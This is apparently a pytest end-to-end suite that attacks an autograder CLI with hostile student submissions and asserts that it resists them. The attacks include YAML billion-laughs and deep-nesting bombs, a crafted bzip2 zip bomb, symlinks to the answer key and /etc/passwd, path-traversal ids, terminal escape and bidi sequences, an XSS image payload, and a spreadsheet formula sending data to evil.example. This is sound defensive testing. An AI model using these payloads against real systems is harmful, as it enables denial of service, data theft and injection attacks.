"""End to end: a class where most students attack the grader with what they hand in.

One `grader grade` run (through the CLI) over folders and archives built to break it: YAML
bombs, NaN and fixed-point tricks, a forged classmate's id with a far-future time, symlinks to
the key, a bzip2 bomb, binary garbage as solution.py, escape sequences and HTML in ids and
answers. The run must finish with exit 0, give every student a clear result, credit nothing
that was not earned, leave the honest student's result alone, write only inside --out, and
print and export nothing that a terminal, spreadsheet, CI page or browser would act on.
Expected scores are worked out here from the key's reference answers and the specs' points.
"""

from __future__ import annotations

import bz2
import datetime as dt
import json
import os
import struct
import zipfile
from pathlib import Path

import numpy as np
import pytest
import yaml
from click.testing import CliRunner
from junitparser import JUnitXml

from grader.cli import cli
from grader.app.fabricate import Course
from grader.student.submission import manifest_for, pack
from grader.student.documents import Manifest, MetaAssignment, MetaStudent, StudentMeta

SECRET_ENV = "GRADER_ATTACK_SECRET"
DUE = dt.datetime(2030, 1, 1, tzinfo=dt.timezone.utc)
ASSIGNMENT = f"""\
id: week3
title: Week 3
secret: {{env: {SECRET_ENV}}}
exercises:
  - info-kl-divergence
  - opt-gradient-descent
  - la-matmul
  - impl-softmax
reveal: always
due: {DUE.isoformat()}
late: {{policy: per_day, penalty_per_day: 10, max_days: 3, time_source: manifest}}
sandbox: {{time_limit: 4, memory_mb: 512}}
"""
# Points: kl 2+2, descent 4+2, matmul shape 1 + C 3, softmax 10.
ROSTER = """\
id,name,email
ann,Ann,ann@example.org
bob,Bob,bob@example.org
cat,"=HYPERLINK(""http://evil.example/?""&A1)",cat@example.org
dan,Dan,dan@example.org
eve,Eve,eve@example.org
fay,Fay,fay@example.org
gus,Gus,gus@example.org
hal,Hal,hal@example.org
"""
ON_TIME = DUE - dt.timedelta(days=1)
CONTROL = ("\x1b", "\x07", "\u202e", "\u2066")
HOSTILE_HTML = "<img src=x onerror=alert(1)>"


class AttackCourse(Course):
    """The shared course builder, plus writers of raw, hostile files."""

    def raw_folder(self, sid: str, files: dict[str, bytes | str]) -> Path:
        target = self.subs / sid
        target.mkdir()
        for name, data in files.items():
            path = target / name
            path.write_bytes(data if isinstance(data, bytes) else data.encode())
        return target

    def raw_archive(self, name: str, sid: str, answers: bytes, when: dt.datetime,
                    meta: bytes | None = None) -> Path:
        files = {"answers.yaml": answers, "grader.json": meta or self.meta(sid)}
        ids = json.loads(files["grader.json"])  # a stranger's grader.json holds only the ids
        meta = StudentMeta(MetaAssignment(ids["assignment"]["id"]),
                           MetaStudent(ids["student"]["id"]), ())
        manifest = manifest_for(files, meta, now=when)
        path = self.subs / name
        path.write_bytes(pack(files, manifest))
        return path


def billion_laughs() -> str:
    text = "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
    for i in range(1, 10):
        prev, cur = chr(96 + i), chr(97 + i)
        text += f"{cur}: &{cur} [" + ", ".join([f"*{prev}"] * 10) + "]\n"
    return text + "info-kl-divergence: {kl_pq: *j}\n"


def bzip2_bomb(path: Path, manifest: Manifest, size: int = 64 << 20) -> None:
    """A zip whose answers.yaml is bzip2 that expands to `size` bytes while declaring 100."""
    comp = bz2.BZ2Compressor(9)
    data = b"".join(comp.compress(b"\0" * (1 << 24)) for _ in range(size >> 24)) + comp.flush()
    info = zipfile.ZipInfo("answers.yaml")
    info.compress_type, info.file_size, info.compress_size = zipfile.ZIP_BZIP2, 100, len(data)
    info.CRC, info.create_version, info.extract_version = 0, 46, 46
    local = info.FileHeader(False)
    manifest_bytes = json.dumps(manifest.to_dict()).encode()
    m_info = zipfile.ZipInfo("manifest.json")
    m_info.compress_type, m_info.file_size = zipfile.ZIP_STORED, len(manifest_bytes)
    m_info.compress_size, m_info.CRC = len(manifest_bytes), zipfile.crc32(manifest_bytes)
    m_local = m_info.FileHeader(False)
    central = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 46, 3, 46, 0, 0, 12, 0, 0, 0,
                          len(data), 100, 12, 0, 0, 0, 0, 0, 0) + b"answers.yaml"
    central += struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 0,
                           m_info.CRC, len(manifest_bytes), len(manifest_bytes), 13, 0, 0, 0,
                           0, 0, len(local) + len(data)) + b"manifest.json"
    body = local + data + m_local + manifest_bytes
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(central), len(body), 0)
    path.write_bytes(body + central + end)


def fabricate(c: AttackCourse) -> dict:
    facts: dict = {}
    # bob: honest, on time, every typed answer right (softmax not handed in).
    c.raw_archive("week3-bob.zip", "bob", yaml.safe_dump(c.right("bob")).encode(), ON_TIME)
    # ann: forges bob's id, with a time no genuine submission can beat, to replace his work.
    c.raw_archive("week3-ann.zip", "bob", b"info-kl-divergence: {kl_pq: 0, kl_qp: 0}\n",
              dt.datetime(2099, 1, 1, tzinfo=dt.timezone.utc))
    # cat: a billion laughs.  dan: nesting 5000 deep.
    c.raw_folder("cat", {"answers.yaml": billion_laughs(), "grader.json": c.meta("cat")})
    c.raw_folder("dan", {"answers.yaml": "info-kl-divergence:\n  kl_pq: " + "[" * 5000 + "1" +
                     "]" * 5000 + "\n", "grader.json": c.meta("dan")})
    # eve: inf, nan, the minimiser repeated, a matrix with nan off the diagonal.
    mm = c.exercise("eve", "la-matmul").answers
    n = len(mm["C"])
    descent = c.exercise("eve", "opt-gradient-descent")
    p = descent.params
    minimum = np.linalg.solve(np.array(p["A"], float), np.array(p["b"], float)).tolist()
    eve = {"info-kl-divergence": {"kl_pq": "inf", "kl_qp": "nan"},
           "opt-gradient-descent": {"iterates": [minimum] * p["k"], "final_value": "nan"},
           "la-matmul": {"shape": mm["shape"],
                         "C": [[mm["C"][i][j] if i == j else "nan" for j in range(n)]
                               for i in range(n)]}}
    c.raw_folder("eve", {"answers.yaml": yaml.safe_dump(eve), "grader.json": c.meta("eve")})
    facts["eve"] = 1.0 + 3.0 * n / (n * n)  # the shape, and the diagonal's share of C
    # fay: symlinks to her own key file and to /etc/passwd.
    fay = c.subs / "fay"
    fay.mkdir()
    (fay / "answers.yaml").symlink_to(c.build / "key" / "fay.json")
    (fay / "grader.json").symlink_to("/etc/passwd")
    # gus: binary garbage as solution.py; answers with escapes, bidi and HTML.
    gus = {"info-kl-divergence": {"kl_pq": "\x1b]0;owned\x07\x1b[2J" + HOSTILE_HTML,
                                  "kl_qp": "\u202e1.0\u2066"},
           "la-matmul": {"shape": HOSTILE_HTML}}
    c.raw_folder("gus", {"answers.yaml": yaml.safe_dump(gus), "grader.json": c.meta("gus"),
                     "solution.py": bytes(range(256)) * 64})
    # hal: a bzip2 bomb under his own name and manifest.
    files = {"answers.yaml": b"x", "grader.json": c.meta("hal")}
    hal = StudentMeta.from_dict(json.loads(c.meta("hal")), source="grader.json")
    bzip2_bomb(c.subs / "week3-hal.zip", manifest_for(files, hal, now=ON_TIME))
    # Strangers: an id full of escapes, a path, HTML; an anonymous folder named like a formula.
    for i, sid in enumerate(("\x1b]0;pwned\x07\u202eevil", "../../../../pwned", HOSTILE_HTML)):
        meta = json.dumps({"student": {"id": sid}, "assignment": {"id": "week3"}}).encode()
        c.raw_archive(f"stranger{i}.zip", sid, b"x: 1\n", ON_TIME, meta=meta)
    c.raw_folder("=cmd", {"answers.yaml": "x: 1\n"})
    return facts


def snapshot(root: Path, skip: Path) -> dict[str, int]:
    return {str(p.relative_to(root)): p.lstat().st_size for p in root.rglob("*")
            if skip not in p.parents and p != skip}


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory):
    root = tmp_path_factory.mktemp("attacks")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv(SECRET_ENV, "attack-secret-0123456789")
        mp.delenv("GITHUB_STEP_SUMMARY", raising=False)
        c = AttackCourse.create(root, ASSIGNMENT, ROSTER)
        facts = fabricate(c)
        out = root / "out"
        before = snapshot(root, out)
        res = CliRunner().invoke(cli, [
            "grade", str(root / "assignment.yaml"), str(c.subs), "--out", str(out), "--key",
            str(c.build), "--jobs", "2", "--junit", str(out / "junit.xml"), "--summary",
            str(out / "summary.md"), "--gradescope", str(out / "gs.json")])
        after = snapshot(root, out)
        yield c, facts, res, before, after


def result(c: Course, sid: str) -> dict:
    return json.loads((c.root / "out" / f"{sid}.json").read_text(encoding="utf-8"))


def scores(doc: dict) -> dict[str, tuple[str, float]]:
    return {f"{e['id']}.{p['part_id']}": (p["status"], p["score"])
            for e in doc["exercises"] for p in e["parts"]}


def test_the_run_finishes_cleanly_and_prints_nothing_a_terminal_would_act_on(run) -> None:
    _, _, res, _, _ = run
    assert res.exit_code == 0, res.output
    assert "Traceback" not in res.output and "internal error" not in res.output
    assert not any(ch in res.output for ch in CONTROL)


def test_nothing_is_written_outside_the_results_folder(run) -> None:
    c, _, _, before, after = run
    assert after == before
    assert not any("pwned" in p.name for p in (*c.root.parent.iterdir(),
                                                *c.root.parent.parent.iterdir()))
    for path in (c.root / "out").rglob("*"):
        assert path.resolve().is_relative_to((c.root / "out").resolve())


def test_a_forged_id_neither_replaces_nor_touches_the_classmates_work(run) -> None:
    c, _, _, _, _ = run
    bob = result(c, "bob")
    assert (bob["status"], bob["score"]) == ("graded", 14.0)  # every typed part right
    assert not any("submissions found" in m for m in bob["messages"])
    ann = result(c, "ann")
    assert ann["status"] == "graded" and ann["score"] == 0.0
    assert "names student 'bob' but was handed in for 'ann'" in ann["messages"][0]


def test_yaml_bombs_are_format_errors(run) -> None:
    c, _, _, _, _ = run
    for sid in ("cat", "dan"):
        doc = result(c, sid)
        typed = {k: v for k, v in scores(doc).items() if not k.startswith("impl-")}
        assert set(typed.values()) == {("format_error", 0.0)}
        assert doc["score"] == 0.0


def test_nan_inf_and_fixed_points_earn_only_what_is_right(run) -> None:
    c, facts, _, _, _ = run
    doc = result(c, "eve")
    got = scores(doc)
    assert got["info-kl-divergence.kl_pq"] == ("wrong", 0.0)
    assert got["info-kl-divergence.kl_qp"] == ("wrong", 0.0)
    assert got["opt-gradient-descent.iterates"] == ("wrong", 0.0)
    assert got["opt-gradient-descent.final_value"] == ("wrong", 0.0)
    assert doc["score"] == pytest.approx(facts["eve"], abs=1e-4)


def test_symlinks_to_the_key_are_never_read(run) -> None:
    c, _, _, _, _ = run
    doc = result(c, "fay")
    assert doc["status"] == "empty" and doc["score"] == 0.0
    assert "answers.yaml is not a regular file (ignored)" in doc["messages"]
    text = (c.root / "out" / "fay.json").read_text()
    assert "params" not in text and "root:" not in text


def test_binary_garbage_and_hostile_text_are_graded_and_quoted_safely(run) -> None:
    c, _, _, _, _ = run
    doc = result(c, "gus")
    got = scores(doc)
    assert got["impl-softmax.softmax"][1] == 0.0
    assert got["info-kl-divergence.kl_pq"] == ("format_error", 0.0)
    assert got["la-matmul.shape"] == ("format_error", 0.0)
    html = (c.root / "out" / "gus.html").read_text(encoding="utf-8")
    assert HOSTILE_HTML not in html and "&lt;img" in html


def test_a_bzip2_bomb_is_not_unpacked(run) -> None:
    c, _, _, _, _ = run
    doc = result(c, "hal")
    assert doc["status"] == "tampered" and doc["score"] == 0.0
    assert any("unsupported way" in m for m in doc["messages"])


def test_strangers_get_printable_ids_and_safe_files(run) -> None:
    c, _, res, _, _ = run
    unknown = sorted((c.root / "out" / "unknown").glob("*.json"))
    assert len(unknown) == 4
    for path in unknown:
        doc = json.loads(path.read_text())
        assert doc["status"] == "unknown_student" and doc["student_id"].isprintable()
        assert path.name.isascii() and path.name.isprintable()
    assert "warning: Submission stranger0.zip is from" in res.output


def test_exports_carry_no_formula_markup_or_invalid_xml(run) -> None:
    c, _, _, _, _ = run
    out = c.root / "out"
    rows = (out / "gradebook.csv").read_text(encoding="utf-8").splitlines()
    cat = next(r for r in rows if ",cat," in r)
    assert cat.startswith("\"'=HYPERLINK(")
    assert not any("=cmd" in r or "pwned" in r for r in rows)  # strangers are not in the CSV
    summary = (out / "summary.md").read_text(encoding="utf-8")
    assert "<img" not in summary and not any(ch in summary for ch in CONTROL)
    xml = (out / "junit.xml").read_text(encoding="utf-8")
    assert not any(ch in xml for ch in CONTROL)
    assert {s.name for s in JUnitXml.fromfile(str(out / "junit.xml"))} >= {"ann", "bob"}
    gs = {p.name for p in out.glob("gs-*.json")}
    assert "gs-bob.json" in gs and not any("pwned" in n for n in gs)


def test_results_stay_small_whatever_was_handed_in(run) -> None:
    c, _, _, _, _ = run
    for path in (c.root / "out").rglob("*.json"):
        assert path.stat().st_size < 200_000, path


def test_a_single_hostile_submission_in_ci_gets_an_inert_job_summary(run, tmp_path) -> None:
    c, _, _, _, _ = run
    step = tmp_path / "step.md"
    res = CliRunner(env={"GITHUB_STEP_SUMMARY": str(step)}).invoke(cli, [
        "grade", str(c.root / "assignment.yaml"), str(c.subs / "gus"), "--out",
        str(tmp_path / "out"), "--key", str(c.build)])
    assert res.exit_code == 0, res.output
    text = step.read_text(encoding="utf-8")
    assert "### Parts" in text and "&lt;img" in text
    assert "<img" not in text and not any(ch in text for ch in CONTROL)


def test_grading_again_changes_nothing(run, tmp_path) -> None:
    c, _, first, _, _ = run
    res = CliRunner().invoke(cli, [
        "grade", str(c.root / "assignment.yaml"), str(c.subs), "--out", str(c.root / "out"),
        "--key", str(c.build)])
    assert res.exit_code == 0, res.output
    assert "graded 0, unchanged 12" in res.output
    assert os.path.exists(c.root / "out" / "bob.json")


@pytest.mark.parametrize("meta", [b'{"student": {"id": "nobody"}, "assignment": {"id": "week3"}}',
                                  None])
def test_ci_cannot_be_turned_green_by_naming_nobody(run, tmp_path, meta) -> None:
    c, _, _, _, _ = run
    repo = tmp_path / "week3-repo"
    repo.mkdir()
    (repo / "answers.yaml").write_text("info-kl-divergence: {kl_pq: 0}\n")
    if meta is not None:  # else: grader.json deleted, and the folder is nobody's
        (repo / "grader.json").write_bytes(meta)
    res = CliRunner().invoke(cli, [
        "grade", str(c.root / "assignment.yaml"), str(repo), "--out", str(tmp_path / "out"),
        "--key", str(c.build), "--fail-under", "50"])
    assert res.exit_code == 1, res.output
    assert "not met by 1" in res.output
